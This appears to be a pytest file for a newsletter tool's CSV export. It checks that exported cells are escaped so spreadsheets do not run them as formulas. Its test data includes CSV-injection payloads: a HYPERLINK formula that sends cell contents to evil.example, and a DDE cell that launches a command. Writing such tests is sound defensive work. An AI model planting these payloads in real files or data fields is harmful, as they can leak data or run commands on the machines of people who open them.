"""Every CSV the tool writes opens in a spreadsheet without running a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from newsletter.report import IssueReport, ReportedRecipient, write_csv
from newsletter.spreadsheet import restore, write_row
from newsletter.store import Store, export_csv, import_csv
from newsletter.store.subscribers import NewSubscriber

SPREADSHEET_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""How Excel, LibreOffice and Google Sheets decide that a cell is a formula."""

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already marked",
    "'",
    "+44 20 7946 0000",
    'plain, with a comma and "quotes"',
    "it's fine",
]


def formulas_in(text: str) -> list[str]:
    """Every cell of ``text`` a spreadsheet would run, read as the csv module reads it."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(SPREADSHEET_FORMULA_START)
    ]


def test_a_row_of_hostile_cells_has_no_formula_and_reads_back() -> None:
    out = io.StringIO()
    write_row(out, HOSTILE)
    assert formulas_in(out.getvalue()) == []
    [cells] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert [restore(cell) for cell in cells] == HOSTILE
    assert out.getvalue().startswith('"\'=HYPERLINK(""https://evil.example/?""&A1')


def test_plain_cells_are_written_as_the_csv_module_writes_them() -> None:
    out, expected = io.StringIO(), io.StringIO()
    cells = ["ann@example.org", "Ann, Lee", 'say "hi"', "", 12, None]
    write_row(out, cells)
    csv.writer(expected, lineterminator="\n").writerow(cells)
    assert out.getvalue() == expected.getvalue()


@pytest.fixture
def hostile_store(tmp_path: Path) -> Store:
    store = Store.open(tmp_path / "store.db")
    store.ensure_list("members")
    store.ensure_list("partners")
    people = [
        NewSubscriber(f"p{i}@example.org", value.strip("\t\r") or "x", {"note": value.strip()})
        for i, value in enumerate(HOSTILE)
    ]
    store.upsert_many(people, "members")
    store.add("-dash@example.org", "@handle", "members", {"phone": "+44 1632 960000"})
    return store


def test_subscribers_export_has_no_formula_and_imports_back_unchanged(
    hostile_store: Store, tmp_path: Path
) -> None:
    out = io.StringIO()
    assert export_csv(hostile_store, "members", out) == len(HOSTILE) + 1
    assert formulas_in(out.getvalue()) == []
    assert '"\'-dash@example.org","\'@handle",subscribed' in out.getvalue()

    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    report = import_csv(hostile_store, path, "partners")
    assert (report.rows, report.unchanged, report.invalid) == (len(HOSTILE) + 1, 0, 0)
    before = [(s.email, s.name, s.attributes) for s in hostile_store.subscribers_of("members")]
    after = [(s.email, s.name, s.attributes) for s in hostile_store.subscribers_of("partners")]
    assert after == before
    assert ("-dash@example.org", "@handle", {"phone": "+44 1632 960000"}) in after


def test_the_report_csv_has_no_formula() -> None:
    listed = [
        ReportedRecipient(7, "=cmd@example.org", "members", "refused", "-bad|x", None, 3, 1, None)
    ]
    report = IssueReport("001", ("members",), "complete", {}, 0, None, None, listed)
    out = io.StringIO()
    write_csv(report, out)
    assert formulas_in(out.getvalue()) == []
    assert out.getvalue().splitlines()[1] == (
        '"\'=cmd@example.org",refused,members,"\'-bad|x",,7,3'
    )
